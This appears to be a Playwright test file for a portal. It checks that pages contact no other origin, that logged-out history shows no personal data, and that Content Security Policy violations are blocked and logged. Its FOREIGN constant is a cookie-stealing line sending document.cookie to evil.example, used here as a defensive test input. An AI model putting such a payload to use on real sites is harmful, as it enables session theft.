"""A browser on the portal speaks with it alone, keeps nothing of it, and tells when a page was tampered with."""

import re
import time
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Request, WebSocket, expect

from accounts.enums import Role
from accounts.models import User
from tests.cxportal.test_doors import TABLE, VISITORS, path_of
from tests.e2e.authenticator import Authenticator
from tests.e2e.browser import sign_in
from tests.factories import PASSWORD, make_user, turn_mfa_on

INLINE = (
    "const it = document.createElement('script'); it.textContent = 'window.isBroken = true'; document.body.append(it)"
)
FOREIGN = "new Image().src = 'https://evil.example/pixel?' + document.cookie"


def listen(page: Page) -> list[str]:
    """The addresses that the browser asks from now on."""
    asked: list[str] = []

    def note(it: Request | WebSocket) -> None:
        asked.append(it.url)

    page.context.on("request", note)
    page.on("websocket", note)
    return asked


def elsewhere(asked: list[str], base_url: str) -> list[str]:
    own = (f"{base_url}/", f"{base_url.replace('http', 'ws')}/", "data:")
    return [url for url in asked if not url.startswith(own)]


def pages_of(role: Role, subject: User) -> list[str]:
    """The pages that somebody may read; downloads and data are none."""
    place = VISITORS.index(role)
    routes = [route for route, answers in TABLE.items() if answers[place] == "200" and route.endswith(("/", "docs"))]
    return [path_of(route, subject) for route in routes if "export" not in route]


@pytest.mark.parametrize("role", [Role.ADMINISTRATOR, Role.AGENT])
def test_no_page_asks_anybody_else_for_anything(page: Page, base_url: str, role: Role) -> None:
    user, subject = make_user(role), make_user()
    asked = listen(page)

    sign_in(page, user)
    for path in pages_of(role, subject):
        page.goto(path)
        page.wait_for_load_state("networkidle")

    assert elsewhere(asked, base_url) == []
    assert {f"{base_url}{path}" for path in pages_of(role, subject)} <= set(asked)


def test_no_page_on_the_way_in_asks_anybody_else_either(page: Page, base_url: str) -> None:
    user = make_user()
    phone = Authenticator(turn_mfa_on(user))
    asked = listen(page)

    for path in ("/nowhere/", "/password/forgotten/", "/login/?next=/" + "a" * 5000):
        page.goto(path)
    sign_in(page, user, phone=phone)

    assert elsewhere(asked, base_url) == []
    assert len(asked) > 10


def test_the_page_with_the_qr_code_asks_nobody_for_it(page: Page, base_url: str) -> None:
    sign_in(page, make_user(Role.MANAGER))
    asked = listen(page)

    page.goto("/profile/mfa/")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Confirm Your Password").click()
    expect(page.get_by_role("img", name=re.compile("QR code"))).to_have_js_property("complete", value=True)

    assert elsewhere(asked, base_url) == []


def test_after_logging_out_the_way_back_shows_nothing(page: Page) -> None:
    user = make_user(Role.MANAGER, first_name="Ottilie", last_name="Quandt")
    sign_in(page, user)
    page.goto("/profile/mfa/")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Confirm Your Password").click()
    key = (page.locator("#setup-key").text_content() or "").split()[0]
    page.goto("/profile/")
    page.get_by_role("banner").locator("summary").last.click()
    page.get_by_role("button", name="Log out").click()
    expect(page.get_by_label("Login")).to_be_visible()

    for _ in range(4):
        page.evaluate("history.back()")
        page.wait_for_timeout(300)
        shown = page.content()
        assert ("Quandt" in shown, key in shown) == (False, False)


def test_a_page_that_was_tampered_with_reports_it(browser: Browser, base_url: str, portal_log: Path) -> None:
    page = browser.new_page(base_url=base_url)
    page.goto("/login/?next=/a-secret-place/")

    page.evaluate(INLINE)
    page.evaluate(FOREIGN)

    assert page.evaluate("window.isBroken") is None
    told = "A page broke the content policy: directive={} blocked={} page=/login/ file="
    assert_told(portal_log, told.format("script-src-elem", "inline"))
    assert_told(portal_log, told.format("img-src", "https://evil.example"))
    assert "a-secret-place" not in portal_log.read_text(encoding="utf-8")
    page.close()


def assert_told(log: Path, words: str) -> None:
    deadline = time.monotonic() + 20
    while words not in log.read_text(encoding="utf-8"):
        assert time.monotonic() < deadline, log.read_text(encoding="utf-8")
        time.sleep(0.2)
